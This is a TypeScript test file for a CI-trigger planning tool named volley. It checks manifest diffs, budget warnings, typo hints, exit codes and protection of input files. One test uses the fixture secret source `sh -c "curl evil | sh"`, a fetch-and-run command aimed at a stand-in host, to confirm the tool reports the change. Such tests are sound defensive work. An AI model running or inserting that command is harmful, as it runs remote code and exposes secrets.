/** What stands between a reviewer and the truth: a side that is broken, a slip, a budget, a file that is in the way. */

import { link, readFile, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { commitAll } from './repository.ts';
import { manifestFor, Rig } from './rig.ts';

let rig: Rig;
beforeEach(async () => {
  rig = await Rig.create();
});
afterEach(() => rig.close());

const anywhere = { url: 'https://ci.example.com', user: 'me' };
const write = (triggers: string, more = ''): Promise<void> =>
  rig.write('triggers.yaml', manifestFor(anywhere, triggers, more));

const commit = (): void => commitAll(rig.folder);

const plan = (...args: readonly string[]) => rig.run(['plan', '--at', '2026-11-22T00:00:00Z', ...args]);

describe('a trigger that cannot be planned', () => {
  const BROKEN = '  t: {job: a}\n  deploy: {job: b, parameters: {P: "${{ 1 / int(trigger.name) }}"}}';

  test.each(['text', 'markdown', 'html', 'json'])('is said to be left out of a diff as %s', async format => {
    await write('  t: {job: a}\n  deploy: {job: b}');
    await plan('--out', 'old.json');
    await write(BROKEN);
    const { code, stdout } = await plan('--against', 'old.json', '--format', format);
    expect(code).toBe(1);
    expect(stdout).not.toContain('what would be fired');
    if (format === 'json') expect(JSON.parse(stdout).broken).toEqual({ before: [], after: ['deploy'] });
    else expect(stdout).toMatch(/triggers\.yaml.*cannot be planned whole.*Not compared: .*deploy/);
  });

  test('does not hide that the whole older manifest is broken', async () => {
    await rig.write('triggers.yaml', 'version: 1\ntargets: {}\ntriggers: {t: {jobb: a}}\n');
    commit();
    await write('  t: {job: a}');
    for (const format of ['markdown', 'html']) {
      const { code, stdout } = await plan('--against', 'main', '--format', format);
      expect(code).toBe(0);
      expect(stdout).toMatch(/is broken: nothing can be compared with it/);
      expect(stdout).toContain('jobb');
    }
    const { stdout } = await plan('--against', 'main', '--format', 'json');
    expect(JSON.parse(stdout).problems.before[0].code).toBe('broken-base');
  });
});

describe('plan --against and a choice', () => {
  test('takes what no side knows for the slip that it is', async () => {
    await write('  three: {job: c, matrix: {os: [linux, windows]}}');
    commit();
    await write('  three: {job: d, matrix: {os: [linux, windows]}}');
    const told = async (text: string, ...args: readonly string[]): Promise<void> => {
      const { code, stdout, stderr } = await plan(...args, '--against', 'HEAD', '--detailed-exitcode');
      expect(stderr).toContain(text);
      expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
    };
    await told('has no trigger "thre"', 'thre');
    await told('Did you mean "three"?', '--select', 'trigger=thre');
    await told('no chosen trigger has "zz" in its matrix', '--matrix', 'zz=1');
    await told('the value "linus"', '--matrix', 'os=linus,linux');
    await told('no chosen trigger has an input "nope"', '-i', 'nope=1');
    expect((await plan('three', '--against', 'HEAD', '--detailed-exitcode')).code).toBe(2);
  });

  test('knows what only one side has', async () => {
    await write('  old: {job: a, matrix: {os: [linux, windows]}}');
    commit();
    await plan('--out', 'old.json');
    await write(
      '  fresh: {job: b, inputs: {i: {type: string, default: x}}}\n  old: {job: a, matrix: {os: [linux]}}',
    );
    expect((await plan('fresh', '-i', 'i=y', '--against', 'main')).stdout).toContain('+ fresh');
    expect((await plan('--matrix', 'os=windows', '--against', 'main')).stdout).toContain('- os=windows');
    await write('  fresh: {job: b}');
    for (const base of ['main', 'old.json'])
      expect((await plan('old', '--against', base)).stdout).toContain('- old');
  });
});

test('only what is named is compared with a plan file of all', async () => {
  await write('  one: {job: a}\n  two: {job: b}');
  await plan('--out', 'old.json');
  await write('  one: {job: a}\n  two: {job: c}');
  expect((await plan('one', '--against', 'old.json')).stdout).toContain('no difference');
  const { stdout } = await plan('two', '--against', 'old.json');
  expect(stdout).toContain('job: b → c');
  expect(stdout).not.toContain('one');
});

describe('what is wrong with a manifest', () => {
  const LIMITS = 'limits: {targets: {ci: {builds-per-day: 2}}}';
  const nightly = (size: number): string =>
    `  t: {job: a, matrix: {a: [${Array.from({ length: size }, (_, at) => at)}]}, parameters: {A: "\${{ matrix.a }}"}, schedule: [{cron: "0 2 1 * 1"}]}`;

  test.each(['markdown', 'html'])('is told by a plan and by a diff as %s', async format => {
    await write('  t: {job: a}', LIMITS);
    commit();
    await write(nightly(3), LIMITS);
    for (const args of [[], ['--against', 'main']]) {
      const { code, stdout } = await plan('--format', format, ...args);
      expect(code).toBe(1);
      expect(stdout).toMatch(/<code>over-budget<\/code>: the schedules bring 3 builds/);
      expect(stdout).toContain('<code>ambiguous-days</code>');
    }
  });

  test('is a member of the document of a plan and of a diff', async () => {
    await write(nightly(1), LIMITS);
    commit();
    await write(nightly(3), LIMITS);
    const own = JSON.parse((await plan('--format', 'json')).stdout);
    expect(own).toMatchObject({ errors: [{ code: 'over-budget' }], warnings: [{ code: 'ambiguous-days' }] });
    const diff = JSON.parse((await plan('--format', 'json', '--against', 'main')).stdout);
    const codes = diff.problems.after.map(({ code }: { readonly code: string }) => code);
    expect(codes).toEqual(['over-budget', 'ambiguous-days']);
  });

  test('is told on a terminal also where plans are compared', async () => {
    await write('  t: {job: a}');
    commit();
    await write(nightly(1));
    expect((await plan('--against', 'main')).stderr).toContain('warning ambiguous-days: ');
  });

  test('is only counted where the older side was warned of it as well', async () => {
    await write(nightly(1));
    commit();
    await plan('--out', 'old.json');
    await write(`  # moved\n${nightly(2)}`);
    for (const older of ['main', 'old.json']) {
      const counted = '1 warning is as before (ambiguous-days 1)';
      const comment = await plan('--against', older, '--format', 'markdown');
      expect(comment.stdout).toContain(`\n${counted}: \`volley validate\` shows them.\n`);
      expect(comment.stdout).not.toContain('<code>ambiguous-days</code>');
      const { stderr } = await plan('--against', older);
      expect(stderr).toContain(counted);
      expect(stderr).not.toContain('warning ambiguous-days: ');
    }
  });
});

test('a budget that is lifted is a difference, against a commit and against a plan file', async () => {
  await write('  t: {job: a}', 'limits: {targets: {ci: {builds-per-day: 30}}}');
  commit();
  await plan('--out', 'old.json');
  await write('  t: {job: a}', 'limits: {max-requests: 50, targets: {ci: {builds-per-day: 3000}}}');
  for (const older of ['main', 'old.json']) {
    const { code, stdout } = await plan('--against', older, '--detailed-exitcode');
    expect(code).toBe(2);
    expect(stdout).toContain('Limits\n  max-requests: 10000 → 50\n  targets.ci.builds-per-day: 30 → 3000\n');
  }
  const whole = JSON.parse((await plan('--format', 'json')).stdout);
  expect(whole.limits).toEqual({
    maxRequests: 50,
    targets: [{ name: 'ci', buildsPerDay: 3000, buildsPerHour: null, buildsInFlight: null }],
  });
});

test('a secret that now comes from a command is a difference', async () => {
  const sourced = (source: string): Promise<void> =>
    rig.write(
      'triggers.yaml',
      `version: 1
secrets: {S: ${source}}
targets: {ci: {type: jenkins, url: "https://ci.example.com"}}
triggers: {t: {job: a, parameters: {P: "\${{ secrets.S }}"}}}
`,
    );
  await sourced('{env: S}');
  await plan('--out', 'p.json');
  await sourced('{exec: [sh, -c, "curl evil | sh"]}');
  const { code, stdout } = await plan('--against', 'p.json', '--detailed-exitcode');
  expect(code).toBe(2);
  expect(stdout).toMatch(/~ secret S\n {4}from: the variable S → a command: sh/);
});

describe('what volley reads', () => {
  const kept = async (name: string, text: string, ...args: readonly string[]): Promise<void> => {
    const before = await readFile(join(rig.folder, name), 'utf8');
    const { code, stderr } = await rig.run(args);
    expect(stderr).toContain(text);
    expect(code).not.toBe(0);
    expect(await readFile(join(rig.folder, name), 'utf8')).toBe(before);
  };

  test('is not written over by a plan, whatever it is called', async () => {
    await rig.write('more.yaml', 'triggers: {more: {job: m}}');
    await write('  t: {job: a}', 'include: [more.yaml]');
    await symlink('triggers.yaml', join(rig.folder, 'soft.json'));
    await link(join(rig.folder, 'triggers.yaml'), join(rig.folder, 'hard.json'));
    await rig.write('notes.json', '{"mine": 1}');
    const out = (name: string) => ['plan', '--out', name];
    await kept('triggers.yaml', 'is the manifest: it is not written over', ...out('triggers.yaml'));
    await kept('triggers.yaml', 'is the manifest', ...out('soft.json'));
    await kept('triggers.yaml', 'is the manifest', ...out('hard.json'));
    await kept('more.yaml', 'is part of the manifest', ...out('more.yaml'));
    await kept('notes.json', 'is there, and is no plan file', ...out('notes.json'));
    await rig.write('empty.json', '');
    for (const name of ['empty.json', 'empty.json', 'new.json']) {
      const { code, stderr } = await rig.run(out(name));
      expect(code).toBe(0);
      expect(stderr).toContain(`The plan is saved in ${name}.`);
    }
    await kept('new.json', 'is the plan file of --against', ...out('new.json'), '--against', 'new.json');
  });

  test('is not written over by a report', async () => {
    await rig.write('more.yaml', 'triggers: {more: {job: m}}');
    await write('  t: {job: a}', 'include: [more.yaml]');
    await rig.run(['plan', '--out', 'p.json']);
    const to = (name: string) => ['--report', `junit=${name}`];
    await kept('triggers.yaml', 'is the manifest', 'validate', ...to('triggers.yaml'));
    await kept('p.json', 'the plan file of --against', 'plan', '--against', 'p.json', ...to('p.json'));
    await kept('p.json', 'the plan file of --plan', 'run', '--plan', 'p.json', ...to('p.json'));
    const { stderr } = await rig.run(['validate', ...to('more.yaml')]);
    expect(stderr).toContain('more.yaml is what the command has read: it is not written over');
    expect(await readFile(join(rig.folder, 'more.yaml'), 'utf8')).toContain('job: m');
  });
});

test('plan ends with 2 for a difference and for nothing else', async () => {
  await write('  t: {job: a}');
  await plan('--out', 'p.json');
  await write('  t: {job: b}');
  const code = async (...args: readonly string[]): Promise<number | null> =>
    (await plan('--against', 'p.json', '--detailed-exitcode', ...args)).code;
  expect(await code()).toBe(2);
  expect(await code('--report', 'junit=triggers.yaml/x')).toBe(1);
  expect(await code('--no-such-option')).toBe(1);
});

test.each([
  [['plan', '--detailed-exitcode'], "'--detailed-exitcode' does nothing without --against"],
  [['plan', '--expires', '1h'], "'--expires' does nothing without --out"],
  [['plan', '--key-env', 'KEY'], "'--key-env' does nothing without --out or --against"],
  [['run', '--allow-stale'], "'--allow-stale' does nothing without --plan"],
])('an option that would do nothing is refused: %s', async (args, text) => {
  await write('  t: {job: a}');
  expect((await rig.run(args)).stderr).toContain(text);
});
